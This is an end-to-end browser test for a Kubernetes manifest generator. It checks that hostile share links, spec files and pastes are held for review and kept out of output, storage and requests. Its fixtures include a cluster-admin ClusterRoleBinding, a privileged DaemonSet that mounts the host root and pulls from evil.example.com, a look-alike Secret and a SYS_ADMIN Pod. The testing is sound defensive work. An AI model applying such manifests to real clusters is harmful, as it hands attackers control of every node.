// Someone else's words, in headless chromium against the built site (dist/): a hand-made share link
// carrying a ClusterRoleBinding to cluster-admin, a Secret with a value the sender knows and a
// privileged DaemonSet mounting the node's `/`. Nothing of it may reach the YAML, the commands, the
// zip or storage until the user includes it; the page names every danger.
//
//   node tests/e2e/hostile.mjs      (from the repo root; needs dist/ built and tools/node installed)
//
// Prints one line per check, then `e2e-hostile: N passed, M failed`.

import { deflateRawSync } from 'node:zlib';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { awake, checks, cli, harness, offOrigin, until, yamlText } from './lib.mjs';

const { check, assert, counts } = checks();
const PLANTED = 'sender-knows-this-1234';

// The phoenix-article preset (without its database) plus the three planted objects, all marked as
// already included.
function hostileSpec() {
  const spec = JSON.parse(cli('spec', '--preset', 'phoenix-article'));
  // No database: a link never carries its passwords, and their absence is an error of its own.
  spec.database.kind = 'none';
  // The sender fills in the secrets the preset leaves empty: values only they should know.
  for (const secret of spec.secrets) secret.value ||= `set-by-the-sender-${secret.name}`;
  spec.extra = [
    { include: true, object: {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'kube-native-admin' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'kube-native' }] } },
    { include: true, object: {
      apiVersion: 'v1', kind: 'Secret', metadata: { name: 'kube-native-extra' }, stringData: { ADMIN_TOKEN: PLANTED } } },
    { include: true, object: {
      apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'node-helper' },
      spec: { selector: { matchLabels: { app: 'node-helper' } }, template: {
        metadata: { labels: { app: 'node-helper' } },
        spec: { hostPID: true, volumes: [{ name: 'host', hostPath: { path: '/' } }],
          containers: [{ name: 'helper', image: 'evil.example.com/helper:1', securityContext: { privileged: true },
            env: [{ name: 'API_PASSWORD', value: PLANTED }], volumeMounts: [{ name: 'host', mountPath: '/host' }] }] } } } } },
  ];
  return spec;
}

const toLink = (origin, spec) =>
  `${origin}/#s=${deflateRawSync(Buffer.from(JSON.stringify(spec))).toString('base64url')}`;

function unzipNames(file) {
  const r = spawnSync('python3', ['-c', 'import json,sys,zipfile; print(json.dumps(zipfile.ZipFile(sys.argv[1]).namelist()))', file], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`not a zip: ${r.stderr}`);
  return JSON.parse(r.stdout);
}

const tmp = mkdtempSync(path.join(os.tmpdir(), 'kubewright-hostile-'));
await harness('e2e-hostile', counts, async ({ server, browser }) => {
  const context = await browser.newContext({ acceptDownloads: true });
  context.setDefaultTimeout(10_000);
  const requests = [];
  const consoleText = [];
  const page = await context.newPage();
  page.on('request', (r) => requests.push(r.url()));
  page.on('console', (m) => consoleText.push(m.text()));
  page.on('pageerror', (e) => consoleText.push(`page error: ${e.message}`));
  const byId = (id) => page.getByTestId(id);
  const yamlAll = () => yamlText(page);
  const commands = () => byId('commands').textContent();
  await page.goto(toLink(server.origin, hostileSpec()));
  await awake(page);
  await until(() => yamlAll(), (t) => t.includes('kind: Deployment'), 'first render');

  await check('the link applies nothing it planted: YAML and commands hold none of it', async () => {
    const yaml = await yamlAll();
    const cmds = await commands();
    for (const word of ['cluster-admin', 'kube-native-admin', 'node-helper', 'hostPath', PLANTED]) {
      assert(!yaml.includes(word), `${word} in the YAML`);
      assert(!cmds.includes(word), `${word} in the commands`);
    }
    assert(!cmds.includes('extra-'), 'a kept file in the commands');
  });

  await check('the review banner lists each held object with what it can do; the Secret is dropped', async () => {
    const items = byId('kept-item');
    await until(() => items.count(), (n) => n === 2, 'two held objects');
    const first = await items.nth(0).textContent();
    assert(first.includes('ClusterRoleBinding/kube-native-admin') && first.includes('the whole cluster'), first);
    assert(first.includes('gives cluster-admin') && first.includes('held for review'), first);
    const second = await items.nth(1).textContent();
    for (const want of ['DaemonSet/node-helper', 'runs a container on every node', 'privileged', "the node's whole filesystem", 'host-pid', 'evil.example.com']) {
      assert(second.includes(want), `${want} missing: ${second}`);
    }
    const states = await items.evaluateAll((els) => els.map((e) => e.dataset.state));
    assert(states.join() === 'held,held', states.join());
    const dropped = await byId('kept-dropped').textContent();
    assert(dropped.includes('Secret/kube-native-extra'), dropped);
    assert(!(await byId('kept-review').textContent()).includes(PLANTED), 'a planted value shown');
  });

  // The link carries no secret value: those are required again, so the verdict is not valid too.
  await check('the verdict says it: 2 dangerous objects (and the secrets to re-enter)', async () => {
    await until(() => byId('not-valid').textContent(), (t) => t === 'not valid: 2 errors, 2 dangerous objects', 'verdict');
  });

  await check('nothing planted is stored: autosave holds no planted value and no stringData', async () => {
    await page.waitForTimeout(700); // autosave waits 400 ms after the last change
    const stored = await page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
    assert(stored.includes('node-helper'), 'the held objects are saved with the form');
    assert(!stored.includes(PLANTED), 'a planted value in localStorage');
    assert(!stored.includes('stringData'), 'the Secret in localStorage');
    const session = await page.evaluate(() => JSON.stringify(Object.entries(sessionStorage)));
    assert(!session.includes(PLANTED), 'a planted value in sessionStorage');
  });

  await check('the zip holds no held object', async () => {
    const [download] = await Promise.all([page.waitForEvent('download'), byId('download-zip').click()]);
    const file = path.join(tmp, 'held.zip');
    await download.saveAs(file);
    const names = unzipNames(file);
    assert(!names.some((n) => n.includes('extra-')), names.join());
  });

  await check('include one: it is in the YAML and in its own labelled step after the app; undo holds it again', async () => {
    await byId('kept-include').first().click();
    await until(() => yamlAll(), (t) => t.includes('name: cluster-admin'), 'included object in the YAML');
    // All documents: manifests.yaml holds it, and the one apply says so.
    // (The commands follow the YAML by a frame.)
    await until(commands, (c) => c.includes('the 1 kept object(s) you reviewed'), 'the apply names the kept object');
    // One file at a time: its own labelled step, after the app is up.
    await byId('file-deployment.yaml').click();
    const cmds = await until(commands, (c) => c.includes('-f deployment.yaml'), 'per-file commands');
    const step = cmds.indexOf('# Kept objects (1 of them): not written by Kubewright');
    assert(step > cmds.indexOf('rollout status'), 'the kept step comes after the rollout');
    assert(cmds.includes('extra-clusterrolebinding-kube-native-admin.yaml'), cmds);
    await byId('file-all').click();
    assert(!(await yamlAll()).includes('node-helper'), 'the other one is still held');
    await page.locator('h1').click();
    await page.keyboard.press('Control+z');
    await until(() => yamlAll(), (t) => !t.includes('cluster-admin'), 'undo holds it back');
    await page.keyboard.press('Control+Shift+z');
    await until(() => yamlAll(), (t) => t.includes('name: cluster-admin'), 'redo includes it again');
  });

  await check('the zip holds the included object only', async () => {
    const [download] = await Promise.all([page.waitForEvent('download'), byId('download-zip').click()]);
    const file = path.join(tmp, 'included.zip');
    await download.saveAs(file);
    const names = unzipNames(file);
    assert(names.some((n) => n.endsWith('extra-clusterrolebinding-kube-native-admin.yaml')), names.join());
    assert(!names.some((n) => n.includes('daemonset')), names.join());
  });

  await check('a reload keeps the choice (autosave), and still stores nothing planted', async () => {
    await page.waitForTimeout(700);
    await page.goto(`${server.origin}/`);
    await awake(page);
    await until(() => yamlAll(), (t) => t.includes('name: cluster-admin'), 'restored with the included object');
    const states = await byId('kept-item').evaluateAll((els) => els.map((e) => e.dataset.state));
    assert(states.join() === 'included,held', states.join());
    const notice = await byId('restore-notice').textContent();
    assert(notice.includes('API_PASSWORD in DaemonSet/node-helper'), notice);
    const stored = await page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
    assert(!stored.includes(PLANTED), 'a planted value in localStorage');
  });

  await check('leave out removes it from the form', async () => {
    await byId('kept-leave-out').nth(1).click();
    await until(() => byId('kept-item').count(), (n) => n === 1, 'one left');
    await until(() => byId('not-valid').textContent(), (t) => t === 'not valid: 2 errors, 1 dangerous object', 'verdict');
  });

  await check('a spec file goes through the same gate: held, the Secret dropped, the planted value named', async () => {
    const file = path.join(tmp, 'hostile.json');
    writeFileSync(file, JSON.stringify(hostileSpec()));
    await byId('spec-file').setInputFiles(file);
    await until(() => byId('kept-item').evaluateAll((els) => els.map((e) => e.dataset.state).join()), (s) => s === 'held,held', 'held from the file');
    const yaml = await yamlAll();
    assert(!yaml.includes('node-helper') && !yaml.includes('cluster-admin'), 'held objects in the YAML');
    const notes = await byId('kept-dropped').textContent();
    assert(notes.includes('Secret/kube-native-extra'), 'Secret not dropped');
    assert(notes.includes('the file sets') && notes.includes('SECRET_KEY_BASE'), `the file's secret values not named: ${notes}`);
    await page.waitForTimeout(700);
    const stored = await page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
    assert(!stored.includes(PLANTED), 'a planted value in localStorage');
  });

  await check('a paste goes through the same gate: a look-alike Secret and a privileged pod', async () => {
    const pasted = `${cli('render', '--preset', 'phoenix-article')}---
apiVersion: v1
kind: S\u0435cret
metadata: {name: lookalike}
stringData: {TOKEN: ${PLANTED}}
---
apiVersion: v1
kind: Pod
metadata: {name: sneaky, namespace: kube-system}
spec:
  hostNetwork: true
  containers: [{name: c, image: kube-native:0.1.0, env: [{name: DB_PASSWORD, value: ${PLANTED}}], securityContext: {capabilities: {add: [SYS_ADMIN]}}}]
`;
    await byId('import-open').click();
    await byId('import-text').fill(pasted);
    await byId('import-run').click();
    const report = await until(() => byId('import-report').textContent(), (t) => t?.includes('Pod/sneaky'), 'import report');
    assert(report.includes('U+0435'), report);
    const item = await byId('kept-item').first().textContent();
    for (const want of ['Pod/sneaky', 'host-network', 'dangerousCapabilities', 'kube-system']) {
      assert(item.includes(want), `${want}: ${item}`);
    }
    assert(!(await yamlAll()).includes('sneaky'), 'held Pod in the YAML');
    await page.waitForTimeout(700);
    const stored = await page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
    assert(!stored.includes(PLANTED) && !stored.includes('lookalike'), 'a planted value or the look-alike Secret stored');
    // A share link of this form carries the kept Pod, never its secret value.
    await byId('share-link').click();
    const link = await until(() => byId('share-url').inputValue(), (v) => v.includes('#s='), 'share-url');
    const payload = link.split('#s=')[1];
    const json = (await import('node:zlib')).inflateRawSync(Buffer.from(payload, 'base64url')).toString();
    assert(json.includes('sneaky') && json.includes('DB_PASSWORD'), 'the kept Pod is in the link');
    assert(!json.includes(PLANTED), 'a kept secret value in the share link');
  });

  await check(`no request left ${server.origin}, and the console never showed a planted value`, async () => {
    const outside = offOrigin(requests, server.origin);
    assert(outside.length === 0, outside.join(', '));
    assert(!requests.some((u) => u.includes(PLANTED)), 'a planted value in a request URL');
    assert(!consoleText.some((t) => t.includes(PLANTED)), 'a planted value in the console');
    assert(!consoleText.some((t) => t.startsWith('page error')), consoleText.join('\n'));
  });
  await context.close();
}, () => rmSync(tmp, { recursive: true, force: true }));
